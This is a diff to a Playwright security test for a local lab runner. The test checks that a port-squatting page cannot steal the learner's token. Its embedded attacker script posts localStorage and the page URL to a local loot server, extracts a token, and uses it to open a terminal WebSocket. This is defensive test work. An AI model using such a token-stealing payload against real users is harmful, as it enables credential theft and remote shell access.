@@ -5,7 +5,15 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { chromium, type BrowserContext, type Page } from '@playwright/test';
 import { chromiumArgs, chromiumExecutable } from '../chromium.ts';
-import { ChapterPage, expect, startRunner, test, testDist, type Runner } from './fixtures.ts';
+import {
+  ChapterPage,
+  expect,
+  startRunner,
+  test,
+  testDist,
+  watchPolicy,
+  type Runner,
+} from './fixtures.ts';
 
 /**
  * Another local user who holds the runner's port while no runner runs, and waits for the
@@ -50,7 +58,7 @@ function thief(loot: number, tag: string): string {
   return `(() => {
   const send = (what) => fetch('http://127.0.0.1:${loot}/${tag}/' + encodeURIComponent(what), { method: 'POST', mode: 'no-cors', body: JSON.stringify({ href: location.href, stored: { ...localStorage } }) });
   send('ran');
-  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href + ' ' + JSON.stringify({ ...localStorage }).replace(/"istio-lab.token":"/, 'token='));
+  const found = /token=([A-Za-z0-9_-]{16,})/.exec(location.href) || /^([A-Za-z0-9_-]{32})$/m.exec(Object.values(localStorage).join('\\n'));
   if (!found) return;
   send('token ' + found[1]);
   const socket = new WebSocket('ws://' + location.host + '/api/terminal?session=main', ['istio-lab', 'istio-lab.token.' + found[1]]);
@@ -156,6 +164,7 @@ async function learnerSignsIn(page: Page, runner: Runner, loot: Loot): Promise<v
 }
 
 let context: BrowserContext;
+let violations: string[];
 let profile: string;
 const loot = new Loot();
 
@@ -167,6 +176,7 @@ test.beforeEach(async () => {
     args: chromiumArgs,
     viewport: { width: 1280, height: 900 },
   });
+  violations = await watchPolicy(context);
   await loot.start();
 });
 
@@ -216,4 +226,6 @@ test('what a squatter on the port left in the browser never sees the token nor o
   }
   expect(loot.has(first.token) || loot.has(second.token), loot.reports.join('\n')).toBe(false);
   expect(loot.has('terminal opened'), loot.reports.join('\n')).toBe(false);
+  // The squatter's own pages have no policy; the runner's ran under theirs without a violation.
+  expect(violations.filter((violation) => violation.includes('.localhost:'))).toEqual([]);
 });
